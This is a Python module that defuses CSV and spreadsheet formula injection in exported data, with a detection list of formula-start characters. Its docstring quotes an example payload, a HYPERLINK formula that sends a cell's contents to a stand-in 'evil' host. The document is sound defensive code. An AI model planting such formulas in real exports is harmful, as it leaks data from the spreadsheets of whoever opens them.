"""Cells that cannot run as formulas: CSV and spreadsheet injection (OWASP "CSV Injection").

A spreadsheet program runs a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and a leading tab or carriage return can hide such a start. A rep named
``=HYPERLINK("http://evil/?"&A1, "Details")`` in a CRM export would otherwise become a live
link in the manager's Excel. Every text cell the kit writes goes through :func:`inert`
(CSV files) or is typed as text (the Excel workbook, see ``kit.report.workbook``); numbers
stay numbers.

Example
-------
>>> inert("=1+1"), inert("-5 days"), inert("王伟"), inert(-5)
("'=1+1", "'-5 days", '王伟', -5)
"""

from __future__ import annotations

from typing import Any

import pandas as pd

__all__ = ["FORMULA_STARTS", "is_formula_like", "inert", "inert_frame"]

#: First characters that make a spreadsheet treat a text cell as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text that a spreadsheet could run as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def inert(value: Any) -> Any:
    """Text beginning like a formula gets a leading apostrophe (shown as text); the rest as is.

    Parameters
    ----------
    value : any
        A cell value. Only ``str`` values are changed: numbers, dates and missing values stay
        what they are.

    Returns
    -------
    any
        ``"'" + value`` for formula-like text, else ``value``.
    """
    return "'" + value if is_formula_like(value) else value


def inert_frame(df: pd.DataFrame, index: bool = True) -> pd.DataFrame:
    """A copy of ``df`` whose text cells (and text index and column labels) are :func:`inert`.

    Parameters
    ----------
    df : DataFrame
    index : bool
        Also the index labels (when the index is written as a column).

    Returns
    -------
    DataFrame
        The same shape, columns and dtypes; only text values that begin like a formula changed.

    Example
    -------
    >>> inert_frame(pd.DataFrame({"name": ["=cmd", "ok"], "x": [-1, 2]}))["name"].tolist()
    ["'=cmd", 'ok']
    """
    out = df.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or pd.api.types.is_string_dtype(s):
            mask = s.map(is_formula_like).astype(bool)
            if mask.any():
                out[col] = s.astype(object).where(~mask, s[mask].map(inert))
    out.columns = _inert_labels(out.columns)
    if index:
        out.index = _inert_labels(out.index)
    return out


def _inert_labels(labels: pd.Index) -> pd.Index:
    if isinstance(labels, pd.MultiIndex):
        return pd.MultiIndex.from_tuples([tuple(inert(v) for v in t) for t in labels], names=labels.names)
    if any(is_formula_like(v) for v in labels):
        return pd.Index([inert(v) for v in labels], name=labels.name)
    return labels
